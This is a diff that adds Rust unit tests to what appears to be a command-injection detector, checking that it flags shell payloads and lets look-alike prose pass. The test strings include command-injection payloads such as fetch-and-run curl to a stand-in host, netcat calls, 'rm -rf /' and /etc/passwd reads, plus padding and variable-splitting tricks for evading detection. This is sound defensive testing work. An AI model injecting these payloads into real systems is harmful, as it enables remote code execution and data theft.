@@ -299,6 +299,94 @@ fn finds_strong_commands_inside_prose() {
 }
 
 #[test]
+fn finds_commands_in_what_looks_like_a_comment() {
+    let commands = [
+        "$(curl http://a.example/x|sh)",
+        "`cat /etc/passwd`",
+        "$(cat /etc/passwd)",
+        "$(id)",
+        ";cat /etc/passwd;",
+        "& type c:\\boot.ini",
+    ];
+    for command in commands {
+        for before in ["a # ", "photo #1 ", "x\n# ", "it's # ", "a ; # # ", "\"a # "] {
+            let attack = format!("{before}{command}");
+            assert!(signature_of(&attack).is_some(), "{attack}");
+        }
+    }
+    for benign in [
+        "Room #12; cat food",
+        "Issue #12; sleep 5 minutes",
+        "Release notes\n# Heading; more below\n## Files & folders",
+        "We are #1 | find us",
+        "make all # then run; sort the list",
+        "ticket # 7 (see date)",
+        "$('#id').hide(); $( '#b' ).show()",
+        "a { color: #fff; top: 0 } #id > p { left: 1 }",
+    ] {
+        assert_eq!(signature_of(benign), None, "{benign}");
+    }
+}
+
+#[test]
+fn words_after_the_arguments_excuse_no_command() {
+    let words = ["", " a b c d e f", " one two three four five six seven eight", " '' '' '' '' '' '' ''"];
+    for command in [
+        "; wget http://a.example/x",
+        ";curl http://a.example/x -o /tmp/x",
+        "&& rm -rf /",
+        "| nc 192.0.2.4 99",
+        "; php -r 'system(1);'",
+        "; cat /etc/passwd",
+        ";cat /etc/passwd /",
+    ] {
+        for after in words {
+            for before in ["", "Please call me back as soon as you can today "] {
+                let attack = format!("{before}{command}{after}");
+                assert!(signature_of(&attack).is_some(), "{attack}");
+            }
+        }
+    }
+    for command in ["$(nslookup a.example)", "$(sleep 10)", "$(busybox nc 192.0.2.4 9)", "$(wget x)"] {
+        for before in ["Please call me back as soon ", "Please call me back as soon as you can today "] {
+            let attack = format!("{before}{command} please");
+            assert!(signature_of(&attack).is_some(), "{attack}");
+        }
+    }
+    for benign in [
+        "Please call me back as soon as you can $(about five)",
+        "Please call me back as soon as you can (see date)",
+        "My price is $(more or less) what you said last week",
+        "I waited for you; sleep 8 hours and call me back tomorrow",
+        "We had no time; find the index.html and edit the title there please",
+        "I heard; echo park is nice in the summer",
+        "We lost money; net users grew by a third in May",
+        "I fed the dog; cat and mouse were asleep on the sofa all day",
+    ] {
+        assert_eq!(signature_of(benign), None, "{benign}");
+    }
+}
+
+#[test]
+fn padding_before_the_program_hides_no_command() {
+    for unit in ["env ", "nice ", "exec ", "env -i ", "nice -n 5 ", "a=b ", "</dev/null ", ">x ", "$x "] {
+        for count in [1, 9, 2_000] {
+            let attack = format!(";{}cat /etc/passwd", unit.repeat(count));
+            assert!(signature_of(&attack).is_some(), "{count} of {unit}");
+        }
+    }
+    for count in [1, 20, 2_000] {
+        let attack = format!("; id{}", "\0".repeat(count));
+        assert!(signature_of(&attack).is_some(), "{count} zero bytes");
+        let attack = format!("a=ca;b=t;{}$a$b /x", "x=1;".repeat(count));
+        assert!(signature_of(&attack).is_some(), "{count} assignments");
+    }
+    for benign in ["my env is nice; exec board", "5 < 6 cats", "<b>cat</b> <i>find it</i>", "a=b; nice -n"] {
+        assert_eq!(signature_of(benign), None, "{benign}");
+    }
+}
+
+#[test]
 fn finds_cmdlets_of_powershell() {
     for attack in [";Get-Process", "Get-ChildItem C:\\x", "$(Get-Content C:\\x)"] {
         assert!(signature_of(attack).is_some(), "{attack}");
